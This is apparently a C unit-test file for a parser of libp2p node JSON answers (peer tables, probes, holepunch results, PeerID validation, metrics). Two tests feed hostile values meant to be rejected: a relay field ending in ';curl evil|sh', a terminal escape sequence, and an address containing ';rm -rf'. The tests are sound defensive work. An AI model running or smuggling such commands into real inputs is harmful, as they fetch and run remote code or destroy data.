/*
 * node_json: the otela node's answers as captured from the stand-in node
 * (tests/fixtures/node), malformed and mistyped answers, and PeerIDs.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "error.h"
#include "fixture.h"
#include "node_json.h"
#include "util.h"

#define PEER_A "12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz13"
#define PEER_B "12D3KooWDnZnC1cp9rfnCFGZEmdE7frZs2HZpgkpmdGhhPS3f3Wk"
#define PEER_C "12D3KooWD7H1mwxrpMEfQrMd5v8V15Y7n2bdQw41qxWdsgYpK7oU"
#define PEER_D "12D3KooWCgKn4dJv1ofWUKzHqdo3XcEC7yreF6UPVZRU8kHgHoNj"
#define PEER_RSA "QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbdG"

static int
table_of(const char *text, char ***ids, size_t *n, char **cause)
{
	return node_parse_table(text, strlen(text), ids, n, cause);
}

static int
table_fixture(const char *name, char ***ids, size_t *n)
{
	char *text = fixture_read("node", name), *cause = NULL;
	int r = table_of(text, ids, n, &cause);

	assert_null(cause);
	free(text);
	return r;
}

static void
table_lists_self_and_every_peer_once(void **state)
{
	char **ids;
	size_t n;

	assert_int_equal(table_fixture("dnt_table.json", &ids, &n), 0);
	/* keys, "id" values and the /p2p/ part of addrs name the same
	   peers; addrs start with "/ip4" and are not PeerIDs themselves */
	assert_int_equal(n, 3);
	assert_string_equal(ids[0], PEER_A);
	assert_string_equal(ids[1], PEER_B);
	assert_string_equal(ids[2], PEER_C);
	assert_null(ids[3]);
	node_peer_ids_free(ids);
}

static void
table_keeps_a_disconnected_peer(void **state)
{
	char **ids;
	size_t n;

	/* the tolerant reader collects strings; what "converged" means is
	   the caller's business */
	assert_int_equal(table_fixture("dnt_table_disconnected.json", &ids,
	    &n), 0);
	assert_int_equal(n, 3);
	assert_string_equal(ids[2], PEER_C);
	node_peer_ids_free(ids);
}

static void
table_finds_peer_ids_at_any_depth_and_in_arrays(void **state)
{
	char **ids, *cause = NULL;
	size_t n;

	assert_int_equal(table_of("{\"peers\": [{\"x\": {\"y\": \"" PEER_RSA
	    "\"}}, \"" PEER_B "\", 12, null, \"/ip4/1.2.3.4\"], \"" PEER_B
	    "\": true, \"other\": \"Qx\"}", &ids, &n, &cause), 0);
	assert_int_equal(n, 2);
	assert_string_equal(ids[0], PEER_RSA);
	assert_string_equal(ids[1], PEER_B);
	node_peer_ids_free(ids);

	assert_int_equal(table_of("{}", &ids, &n, &cause), 0);
	assert_int_equal(n, 0);
	assert_non_null(ids);
	assert_null(ids[0]);
	node_peer_ids_free(ids);
}

static void
table_that_is_not_json_is_a_parse_error(void **state)
{
	static const char *bad[] = { "", "not json", "{\"a\": [1,", "42",
	    "\"" PEER_A "\"", "{} {}", "{\"a\": 1} x" };
	char **ids = (char **)1, *cause;
	size_t i, n = 9;

	for (i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		cause = NULL;
		assert_int_equal(table_of(bad[i], &ids, &n, &cause),
		    NP_ERR_PARSE);
		assert_non_null(cause);
		assert_non_null(strstr(cause, "/v1/dnt/table"));
		assert_null(ids);
		assert_int_equal(n, 0);
		free(cause);
	}
	/* the length bounds the text: a valid prefix is not the answer */
	cause = NULL;
	assert_int_equal(node_parse_table("{\"a\":1}", 4, &ids, &n, &cause),
	    NP_ERR_PARSE);
	free(cause);
}

static int
probe_of(const char *text, struct node_probe *p, char **cause)
{
	*cause = NULL;
	return node_parse_probe(text, strlen(text), p, cause);
}

static void
probe_fixture(const char *name, struct node_probe *p)
{
	char *text = fixture_read("node", name), *cause;

	assert_int_equal(probe_of(text, p, &cause), 0);
	assert_null(cause);
	free(text);
}

static double
metric(const struct node_probe *p, const char *key)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(p->metrics, key);

	assert_true(cJSON_IsNumber(v));
	return v->valuedouble;
}

static void
probe_ok_of_each_kind_keeps_kind_target_and_metrics(void **state)
{
	struct node_probe p;

	probe_fixture("probe_libp2p_ping_ok.json", &p);
	assert_true(p.ok);
	assert_string_equal(p.kind, "libp2p_ping");
	assert_string_equal(p.target, PEER_B);
	assert_null(p.error);
	assert_int_equal((long)metric(&p, "avg_ns"), 7906401);
	assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(p.metrics,
	    "samples_ns")), 5);
	node_probe_free(&p);

	probe_fixture("probe_latency_ok.json", &p);
	assert_true(p.ok);
	assert_string_equal(p.kind, "latency");
	assert_float_equal(metric(&p, "p95_ms"), 63.101292, 1e-9);
	node_probe_free(&p);

	probe_fixture("probe_throughput_ok.json", &p);
	assert_true(p.ok);
	assert_string_equal(p.kind, "throughput");
	assert_int_equal((long)metric(&p, "bytes_received"), 2097152);
	assert_float_equal(metric(&p, "mbps"), 26.567994981166553, 1e-9);
	node_probe_free(&p);
}

static void
probe_failed_of_each_kind_keeps_the_error(void **state)
{
	static const char *names[] = { "probe_libp2p_ping_failed.json",
	    "probe_latency_failed.json", "probe_throughput_failed.json" };
	struct node_probe p;
	size_t i;

	for (i = 0; i < 3; i++) {
		probe_fixture(names[i], &p);
		assert_false(p.ok);
		assert_non_null(p.error);
		assert_true(strncmp(p.error, "no successful samples: ",
		    23) == 0);
		assert_true(metric(&p, "failed_samples") >= 2);
		node_probe_free(&p);
	}
	probe_fixture("probe_latency_failed.json", &p);
	assert_string_equal(p.error,
	    "no successful samples: stream reset: The stream has been reset");
	node_probe_free(&p);
}

static void
probe_with_some_failed_samples_is_ok(void **state)
{
	struct node_probe p;
	const cJSON *last;

	probe_fixture("probe_libp2p_ping_partial.json", &p);
	assert_true(p.ok);
	assert_null(p.error);
	assert_int_equal((int)metric(&p, "failed_samples"), 2);
	last = cJSON_GetObjectItemCaseSensitive(p.metrics, "last_error");
	assert_string_equal(cJSON_GetStringValue(last),
	    "stream reset: The stream has been reset");
	node_probe_free(&p);
}

static void
probe_400_answers_parse_as_not_ok_with_the_error(void **state)
{
	static const struct { const char *name, *error; } cases[] = {
		{ "probe_400_bad_json.json",
		  "bad JSON: Unexpected end of JSON input" },
		{ "probe_400_no_target.json", "missing target" },
		{ "probe_400_bad_target.json",
		  "invalid target \"12D3KooWnotapeer\": Incorrect length" },
		{ "probe_400_unknown_kind.json", "unknown kind \"bogus\": "
		  "want one of libp2p_ping, latency, throughput" },
	};
	struct node_probe p;
	char *text, *error;
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		probe_fixture(cases[i].name, &p);
		assert_false(p.ok);
		assert_string_equal(p.error, cases[i].error);
		assert_null(p.kind);
		assert_true(cJSON_IsObject(p.metrics));
		node_probe_free(&p);

		text = fixture_read("node", cases[i].name);
		error = node_error_text(text, strlen(text));
		assert_string_equal(error, cases[i].error);
		free(error);
		free(text);
	}
	assert_null(node_error_text("{\"ok\": true}", 12));
	assert_null(node_error_text("<html>", 6));
	assert_null(node_error_text("", 0));
}

static void
probe_malformed_or_mistyped_is_a_parse_error_naming_the_field(void **state)
{
	static const struct { const char *text, *says; } cases[] = {
		{ "", "empty body" },
		{ "{\"ok\": true, \"kind\": \"latency\"", "not JSON" },
		{ "<html><body>Bad Gateway</body></html>", "not JSON" },
		{ "[{\"ok\": true}]", "not a JSON object" },
		{ "{\"kind\": \"latency\"}", "no \"ok\"" },
		{ "{\"ok\": \"true\"}", "\"ok\" is not a boolean" },
		{ "{\"ok\": 1}", "\"ok\" is not a boolean" },
		{ "{\"ok\": true, \"kind\": 3}", "\"kind\" is not a string" },
		{ "{\"ok\": true, \"target\": {}}", "\"target\" is not" },
		{ "{\"ok\": false, \"error\": 500}", "\"error\" is not" },
		{ "{\"ok\": true, \"metrics\": [1]}", "\"metrics\" is not" },
		{ "{\"ok\": true, \"metrics\": 5}", "\"metrics\" is not" },
		{ "{\"ok\": true, \"config\": \"x\"}", "\"config\" is not" },
	};
	struct node_probe p;
	char *cause;
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		assert_int_equal(probe_of(cases[i].text, &p, &cause),
		    NP_ERR_PARSE);
		assert_non_null(cause);
		if (strstr(cause, cases[i].says) == NULL)
			fail_msg("%s: cause \"%s\" lacks \"%s\"",
			    cases[i].text, cause, cases[i].says);
		assert_null(p.metrics);
		assert_null(p.kind);
		free(cause);
		node_probe_free(&p);
	}
}

static void
probe_absent_optional_fields_are_null(void **state)
{
	struct node_probe p;
	char *cause;

	assert_int_equal(probe_of("{\"ok\": false, \"error\": null, "
	    "\"metrics\": null, \"extra\": [1, 2]}", &p, &cause), 0);
	assert_false(p.ok);
	assert_null(p.error);
	assert_null(p.kind);
	assert_null(p.target);
	assert_true(cJSON_IsObject(p.metrics));
	node_probe_free(&p);
	node_probe_free(&p);	/* cleared: a second free is harmless */
	node_probe_free(NULL);
}

static int
holepunch_of(const char *text, struct node_holepunch *h, char **cause)
{
	*cause = NULL;
	return node_parse_holepunch(text, strlen(text), h, cause);
}

static void
holepunch_fixture(const char *name, struct node_holepunch *h)
{
	char *text = fixture_read("node", name), *cause;

	assert_int_equal(holepunch_of(text, h, &cause), 0);
	assert_null(cause);
	free(text);
}

static void
holepunch_connected_and_not_connected(void **state)
{
	struct node_holepunch h;

	holepunch_fixture("holepunch_connected.json", &h);
	assert_true(h.ok);
	assert_string_equal(h.connectedness, "Connected");
	assert_int_equal(h.attempts, 1);
	assert_null(h.last_error);
	node_holepunch_free(&h);

	holepunch_fixture("holepunch_not_connected.json", &h);
	assert_false(h.ok);
	assert_string_equal(h.connectedness, "NotConnected");
	assert_int_equal(h.attempts, 2);
	assert_true(strncmp(h.last_error, "failed to dial " PEER_D, 67) == 0);
	node_holepunch_free(&h);

	holepunch_fixture("holepunch_400_no_target.json", &h);
	assert_false(h.ok);
	assert_null(h.connectedness);
	assert_int_equal(h.attempts, -1);
	assert_string_equal(h.last_error, "missing target");
	node_holepunch_free(&h);
}

static void
holepunch_malformed_or_mistyped_is_a_parse_error(void **state)
{
	static const struct { const char *text, *says; } cases[] = {
		{ "", "empty body" },
		{ "{\"ok\": true,", "not JSON" },
		{ "null", "not a JSON object" },
		{ "{\"connectedness\": \"Connected\"}", "no \"ok\"" },
		{ "{\"ok\": \"yes\"}", "\"ok\" is not a boolean" },
		{ "{\"ok\": true, \"connectedness\": 1}", "\"connectedness\"" },
		{ "{\"ok\": true, \"attempts\": \"2\"}", "\"attempts\"" },
		{ "{\"ok\": true, \"attempts\": 1.5}", "\"attempts\"" },
		{ "{\"ok\": true, \"attempts\": -1}", "\"attempts\"" },
		{ "{\"ok\": false, \"last_error\": false}", "\"last_error\"" },
	};
	struct node_holepunch h;
	char *cause;
	size_t i;

	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		assert_int_equal(holepunch_of(cases[i].text, &h, &cause),
		    NP_ERR_PARSE);
		assert_non_null(cause);
		if (strstr(cause, cases[i].says) == NULL)
			fail_msg("%s: cause \"%s\" lacks \"%s\"",
			    cases[i].text, cause, cases[i].says);
		assert_null(h.connectedness);
		free(cause);
	}
	node_holepunch_free(NULL);
}

static void
peer_id_valid_accepts_ed25519_and_rsa_ids(void **state)
{
	assert_true(node_json_peer_id_valid(PEER_A));
	assert_true(node_json_peer_id_valid(PEER_B));
	assert_true(node_json_peer_id_valid(PEER_D));
	assert_true(node_json_peer_id_valid(PEER_RSA));
}

#define REAL_RELAY "Qmc43WcQ35P19yb5JnM7KdGXSN56A86MEsHy8JFZBQy7cL"
#define REAL_H1 "QmYcmAYy3nzssPL2b88ti1dzizLXD3ghZX3BHYuv6fdMCX"
#define REAL_H2 "QmZzUf1wZxU3cQpn696PXjn8gwJfKzk7JUJisCMGhNwFeP"
#define REAL_H3 "QmbNd3QW5bejqToEQchfjD7fu7EoxdCSKrwwqauYZQ58CJ"

static const char *
peer_field(const struct node_peer *p, size_t n, const char *id, int status)
{
	size_t i;

	for (i = 0; i < n; i++)
		if (strcmp(p[i].id, id) == 0)
			return status ? p[i].connectedness : p[i].relay_peer;
	return "absent";
}

/* The real node's answers (tests/fixtures/node/README.md): every peer of
   its peer store with its connectedness, itself NotConnected. */
static void
peers_status_real_node(void **state)
{
	char *text = fixture_read("node", "peers_status_real.json");
	struct node_peer *p = NULL;
	char *cause = NULL;
	size_t n = 0;

	(void)state;
	assert_int_equal(node_parse_peers_status(text, strlen(text), &p, &n,
	    &cause), 0);
	assert_int_equal(n, 6);
	assert_string_equal(peer_field(p, n, REAL_RELAY, 1), "Connected");
	assert_string_equal(peer_field(p, n, REAL_H3, 1), "Connected");
	assert_string_equal(peer_field(p, n, REAL_H1, 1), "NotConnected");
	node_peers_free(p, n);
	free(text);
	/* malformed: named, nothing kept */
	assert_int_equal(node_parse_peers_status("{\"peers\": 3}", 12, &p, &n,
	    &cause), NP_ERR_PARSE);
	assert_non_null(strstr(cause, "no \"peers\" list"));
	free(cause);
	assert_int_equal(node_parse_peers_status("[]", 2, &p, &n, &cause),
	    NP_ERR_PARSE);
	free(cause);
	/* a peer without its strings is left out */
	assert_int_equal(node_parse_peers_status("{\"peers\": [{\"id\": \""
	    PEER_A "\"}, {\"id\": \"" PEER_B "\", \"connectedness\": "
	    "\"Limited\"}, 7]}", strlen("{\"peers\": [{\"id\": \"" PEER_A
	    "\"}, {\"id\": \"" PEER_B "\", \"connectedness\": \"Limited\"}, "
	    "7]}"), &p, &n, &cause), 0);
	assert_int_equal(n, 1);
	assert_string_equal(p[0].connectedness, "Limited");
	node_peers_free(p, n);
}

/* The real node's table: each record's relay_peer (the relay itself and a
   node that has not reserved yet have none). */
static void
table_relays_real_node(void **state)
{
	char *text = fixture_read("node", "dnt_table_real.json");
	struct node_peer *p = NULL;
	char *cause = NULL;
	size_t n = 0;

	(void)state;
	assert_int_equal(node_parse_table_relays(text, strlen(text), &p, &n,
	    &cause), 0);
	assert_int_equal(n, 4);
	assert_string_equal(peer_field(p, n, REAL_H3, 0), REAL_RELAY);
	assert_string_equal(peer_field(p, n, REAL_H1, 0), REAL_RELAY);
	assert_string_equal(peer_field(p, n, REAL_H2, 0), "absent");
	assert_string_equal(peer_field(p, n, REAL_RELAY, 0), "absent");
	node_peers_free(p, n);
	free(text);
}

/* A relay_peer that is not a PeerID is left out, as if none: it would
   reach the records as relay_peer_id. */
static void
table_relays_only_peer_ids(void **state)
{
	static const char *const hostile[] = { "",
	    "\\u001b]0;TITLE\\u0007" PEER_B, PEER_B ";curl evil|sh",
	    "12D3KooW", "Qm", PEER_B PEER_B, "/p2p/" PEER_B,
	    "12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1l" };
	struct node_peer *p = NULL;
	char *cause = NULL, *text;
	size_t n = 0, i;

	(void)state;
	for (i = 0; i < sizeof hostile / sizeof *hostile; i++) {
		text = str_printf("{\"/%s\": {\"id\": \"%s\", \"relay_peer\": "
		    "\"%s\"}, \"/%s\": {\"id\": \"%s\", \"relay_peer\": "
		    "\"%s\"}}", PEER_A, PEER_A, hostile[i], PEER_C, PEER_C,
		    PEER_RSA);
		assert_int_equal(node_parse_table_relays(text, strlen(text),
		    &p, &n, &cause), 0);
		assert_int_equal(n, 1);
		assert_string_equal(peer_field(p, n, PEER_A, 0), "absent");
		assert_string_equal(peer_field(p, n, PEER_C, 0), PEER_RSA);
		node_peers_free(p, n);
		free(text);
	}
}

/* GET /v1/dnt/peers: a peer's relay is that of its first circuit address
   (".../p2p/RELAY/p2p-circuit"); a peer with direct addresses only, an
   address that only looks like one, or a relay that is not a PeerID is
   left out. */
static void
peers_circuits(void **state)
{
	static const char body[] = "{\"peers\": ["
	    "{\"ID\": \"" PEER_A "\", \"Addrs\": [\"/ip4/10.0.0.2/tcp/19091\", "
	    "\"/ip4/10.0.0.6/tcp/19091/p2p/" PEER_C "/p2p-circuit\", "
	    "\"/ip4/10.0.0.7/tcp/19091/p2p/" PEER_D "/p2p-circuit\"]}, "
	    "{\"ID\": \"" PEER_B "\", \"Addrs\": [\"/ip4/10.0.0.3/tcp/19091\"]}, "
	    "{\"ID\": \"" PEER_RSA "\", \"Addrs\": [\"/p2p/;rm -rf/p2p-circuit\", "
	    "\"/ip4/10.0.0.8/tcp/1/p2p/" PEER_C "/p2p-circuitx\", "
	    "\"/p2p-circuit\"]}, "
	    "{\"ID\": \"not an id\", \"Addrs\": [\"/ip4/10.0.0.6/tcp/19091/p2p/"
	    PEER_C "/p2p-circuit\"]}]}";
	struct node_peer *p = NULL;
	char *cause = NULL;
	size_t n = 0;

	(void)state;
	assert_int_equal(node_parse_peers_circuits(body, strlen(body), &p, &n,
	    &cause), 0);
	assert_int_equal(n, 1);
	assert_string_equal(peer_field(p, n, PEER_A, 0), PEER_C);
	assert_int_equal(p[0].circuit, 1);
	node_peers_free(p, n);
	assert_int_equal(node_parse_peers_circuits("[]", 2, &p, &n, &cause),
	    NP_ERR_PARSE);
	free(cause);
}

/* GET /metrics of the real node: its counters summed by label. */
static void
metric_sum_real_node(void **state)
{
	char *w = fixture_read("node", "metrics_real_worker.txt");
	char *r = fixture_read("node", "metrics_real_relay.txt");
	double v;

	(void)state;
	assert_int_equal(node_metric_sum(w, strlen(w),
	    "libp2p_swarm_connections_opened_total", "transport",
	    "p2p-circuit", &v), 1);
	assert_true(v == 2);
	assert_int_equal(node_metric_sum(w, strlen(w),
	    "libp2p_swarm_connections_opened_total", NULL, NULL, &v), 1);
	assert_true(v == 5);
	/* a counter that has not counted is not there */
	assert_int_equal(node_metric_sum(w, strlen(w),
	    "libp2p_swarm_connections_closed_total", NULL, NULL, &v), 0);
	assert_true(v == 0);
	assert_int_equal(node_metric_sum(w, strlen(w),
	    "libp2p_autorelay_status", NULL, NULL, &v), 1);
	assert_true(v == 0);
	/* a name is whole: not a prefix of another's */
	assert_int_equal(node_metric_sum(w, strlen(w), "libp2p_swarm",
	    NULL, NULL, &v), 0);
	assert_int_equal(node_metric_sum(r, strlen(r),
	    "libp2p_relaysvc_connections_total", "type", "opened", &v), 1);
	assert_true(v == 20);
	assert_int_equal(node_metric_sum(r, strlen(r),
	    "libp2p_relaysvc_data_transferred_bytes_total", NULL, NULL, &v),
	    1);
	assert_true(v == 1006303);
	assert_int_equal(node_metric_sum(r, strlen(r),
	    "libp2p_swarm_connections_opened_total", "transport",
	    "p2p-circuit", &v), 0);
	/* an escaped quote in a label's value, and a label given twice */
	assert_int_equal(node_metric_sum("m{a=\"x\\\"y\",b=\"z\"} 3\nm{b=\"q\"} 4\n",
	    strlen("m{a=\"x\\\"y\",b=\"z\"} 3\nm{b=\"q\"} 4\n"), "m", "b", "z",
	    &v), 1);
	assert_true(v == 3);
	free(w);
	free(r);
}

static void
peer_id_valid_rejects_everything_else(void **state)
{
	static const char *bad[] = {
		"",
		"12D3KooW",
		PEER_A "1",					/* 53 */
		"12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1",	/* 51 */
		"12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1\n",
		"12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1O",	/* O */
		"12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz10",	/* 0 */
		"12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1l",	/* l */
		"12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1I",	/* I */
		/* right length and prefix, not an Ed25519 multihash */
		"12D3KooW11111111111111111111111111111111111111111111",
		"12D3KooWzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
		"12D3KooXNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz13",
		" " PEER_A,
		"QmYwAPJzv5CZsnA625s3Xf2nemtYgPpHdWEz79ojWnPbd",	/* 45 */
		"Qmzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz",
		"Qm11111111111111111111111111111111111111111111",
		"bafzbeigai3eoy2ccc7ybwjfz5r3rdxqrinwi4rwytly24tdbh6yk7zslrm",
		"/ip4/127.0.0.1/tcp/1/p2p/" PEER_A,
	};
	size_t i;

	for (i = 0; i < sizeof bad / sizeof bad[0]; i++)
		if (node_json_peer_id_valid(bad[i]))
			fail_msg("\"%s\" taken as a PeerID", bad[i]);
	assert_false(node_json_peer_id_valid(NULL));
}

/*
 * A big table (the size that took seconds with a linear search per ID):
 * every PeerID once, however often and wherever it is listed, in order.
 */
static void
table_of_thousands_deduplicated(void **state)
{
	enum { N = 5000 };
	size_t cap = (size_t)N * 140 + 32, len = 0, n = 0, k;
	char *body = malloc(cap), **ids = NULL, *cause = NULL, id[64];

	(void)state;
	assert_non_null(body);
	len += (size_t)snprintf(body + len, cap - len, "{\"peers\":[");
	for (k = 0; k < N; k++)
		len += (size_t)snprintf(body + len, cap - len, "%s{\"peer\":"
		    "\"12D3KooW%044zu\",\"via\":\"12D3KooW%044zu\"}",
		    k ? "," : "", k, k / 2);
	len += (size_t)snprintf(body + len, cap - len, "]}");
	assert_int_equal(node_parse_table(body, len, &ids, &n, &cause), 0);
	assert_null(cause);
	assert_int_equal(n, N);
	for (k = 0; k < N; k++) {
		snprintf(id, sizeof id, "12D3KooW%044zu", k);
		assert_string_equal(ids[k], id);
	}
	assert_null(ids[N]);
	node_peer_ids_free(ids);
	free(body);
}

/* A hostile node's answer: what is kept of it is bounded. */
static void
probe_huge_error_and_metrics_are_cut(void **state)
{
	size_t big = 2u << 20, i, n;
	char *body = malloc(big + NODE_TEXT_MAX + 256), *cause = NULL;
	struct node_probe p;
	const cJSON *cut;

	(void)state;
	assert_non_null(body);
	/* a 2 MiB error, ending in a 2-byte character across the cut */
	n = (size_t)sprintf(body, "{\"ok\":false,\"error\":\"");
	for (i = 0; i < NODE_TEXT_MAX - 1; i++)
		body[n++] = 'e';
	body[n++] = '\xc3';
	body[n++] = '\xa9';
	for (i = 0; i < big; i++)
		body[n++] = 'x';
	n += (size_t)sprintf(body + n, "\",\"metrics\":{\"failed_samples\":1}}");
	assert_int_equal(0, node_parse_probe(body, n, &p, &cause));
	assert_null(cause);
	assert_true(strlen(p.error) < NODE_TEXT_MAX + 64);
	/* the character is not split: it goes with the rest */
	assert_int_equal('e', p.error[NODE_TEXT_MAX - 2]);
	assert_string_equal(p.error + NODE_TEXT_MAX - 1,
	    " [2097154 bytes more, not kept by netprof]");
	node_probe_free(&p);

	/* a 2 MiB samples array: dropped and named, the summary kept */
	n = (size_t)sprintf(body, "{\"ok\":true,\"metrics\":{\"p50_ms\":1.5,"
	    "\"samples_ns\":[");
	for (i = 0; n < big; i++)
		n += (size_t)sprintf(body + n, "%s12345678", i ? "," : "");
	n += (size_t)sprintf(body + n, "]}}");
	assert_int_equal(0, node_parse_probe(body, n, &p, &cause));
	assert_null(cJSON_GetObjectItem(p.metrics, "samples_ns"));
	assert_true(cJSON_GetObjectItem(p.metrics, "p50_ms")->valuedouble == 1.5);
	cut = cJSON_GetObjectItem(p.metrics, NODE_METRICS_CUT);
	assert_int_equal(1, cJSON_GetArraySize(cut));
	assert_string_equal("samples_ns",
	    cJSON_GetArrayItem(cut, 0)->valuestring);
	node_probe_free(&p);

	/* a small answer keeps its arrays, and has no netprof_cut */
	n = (size_t)sprintf(body, "{\"ok\":true,\"metrics\":{\"samples_ns\":[1,2]}}");
	assert_int_equal(0, node_parse_probe(body, n, &p, &cause));
	assert_int_equal(2, cJSON_GetArraySize(cJSON_GetObjectItem(p.metrics,
	    "samples_ns")));
	assert_null(cJSON_GetObjectItem(p.metrics, NODE_METRICS_CUT));
	node_probe_free(&p);

	/* 2 MiB of numbers in keys of their own: refused, saying why */
	n = (size_t)sprintf(body, "{\"ok\":true,\"metrics\":{");
	for (i = 0; n < big; i++)
		n += (size_t)sprintf(body + n, "%s\"k%zu\":1", i ? "," : "", i);
	n += (size_t)sprintf(body + n, "}}");
	assert_int_equal(NP_ERR_PARSE, node_parse_probe(body, n, &p, &cause));
	assert_non_null(strstr(cause, "more than the 262144 netprof keeps"));
	free(cause);
	free(body);
}

/* A punch's connectedness is a word: a longer one is cut. */
static void
holepunch_long_connectedness_is_cut(void **state)
{
	char body[512], *cause = NULL;
	struct node_holepunch h;
	int n;

	(void)state;
	n = snprintf(body, sizeof body, "{\"ok\":false,\"connectedness\":"
	    "\"%0200d\"}", 7);
	assert_int_equal(0, node_parse_holepunch(body, (size_t)n, &h, &cause));
	assert_int_equal(0, strncmp(h.connectedness + NODE_WORD_MAX,
	    " [136 bytes more", 16));
	node_holepunch_free(&h);
}

/*
 * Convergence's question, asked of a big table every poll: which of the
 * hosts' PeerIDs it lists. 20,000 PeerIDs listed, 1,000 asked for (every
 * other one listed), and a NULL (a host not asked about).
 */
static void
table_find_of_thousands(void **state)
{
	enum { N = 20000, W = 1000 };
	size_t cap = (size_t)N * 140 + 32, len = 0, k, missing = 0;
	char *body = malloc(cap), *cause = NULL, *want[W + 1];
	unsigned char found[W + 1];

	(void)state;
	assert_non_null(body);
	len += (size_t)snprintf(body + len, cap - len, "{");
	for (k = 0; k < N; k++)
		len += (size_t)snprintf(body + len, cap - len, "%s\"/12D3KooW"
		    "%044zu\":{\"id\":\"12D3KooW%044zu\"}", k ? "," : "",
		    2 * k, 2 * k);
	len += (size_t)snprintf(body + len, cap - len, "}");
	for (k = 0; k < W; k++)
		want[k] = str_printf("12D3KooW%044zu", k);
	want[W] = NULL;
	assert_int_equal(0, node_table_find(body, len,
	    (const char *const *)want, W + 1, found, &missing, &cause));
	assert_null(cause);
	for (k = 0; k < W; k++)
		assert_int_equal(found[k], k % 2 == 0);
	assert_int_equal(found[W], 0);
	assert_int_equal(missing, W / 2 + 1);
	for (k = 0; k < W; k++)
		free(want[k]);
	/* not a table: unreadable, saying why */
	assert_int_equal(NP_ERR_PARSE, node_table_find("[1", 2,
	    (const char *const *)want, 0, found, &missing, &cause));
	assert_non_null(cause);
	free(cause);
	free(body);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(table_lists_self_and_every_peer_once),
		cmocka_unit_test(table_of_thousands_deduplicated),
		cmocka_unit_test(table_find_of_thousands),
		cmocka_unit_test(table_keeps_a_disconnected_peer),
		cmocka_unit_test(table_finds_peer_ids_at_any_depth_and_in_arrays),
		cmocka_unit_test(table_that_is_not_json_is_a_parse_error),
		cmocka_unit_test(probe_ok_of_each_kind_keeps_kind_target_and_metrics),
		cmocka_unit_test(probe_failed_of_each_kind_keeps_the_error),
		cmocka_unit_test(probe_with_some_failed_samples_is_ok),
		cmocka_unit_test(probe_400_answers_parse_as_not_ok_with_the_error),
		cmocka_unit_test(probe_malformed_or_mistyped_is_a_parse_error_naming_the_field),
		cmocka_unit_test(probe_absent_optional_fields_are_null),
		cmocka_unit_test(holepunch_connected_and_not_connected),
		cmocka_unit_test(holepunch_malformed_or_mistyped_is_a_parse_error),
		cmocka_unit_test(probe_huge_error_and_metrics_are_cut),
		cmocka_unit_test(holepunch_long_connectedness_is_cut),
		cmocka_unit_test(peer_id_valid_accepts_ed25519_and_rsa_ids),
		cmocka_unit_test(peer_id_valid_rejects_everything_else),
		cmocka_unit_test(peers_status_real_node),
		cmocka_unit_test(table_relays_real_node),
		cmocka_unit_test(table_relays_only_peer_ids),
		cmocka_unit_test(peers_circuits),
		cmocka_unit_test(metric_sum_real_node),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
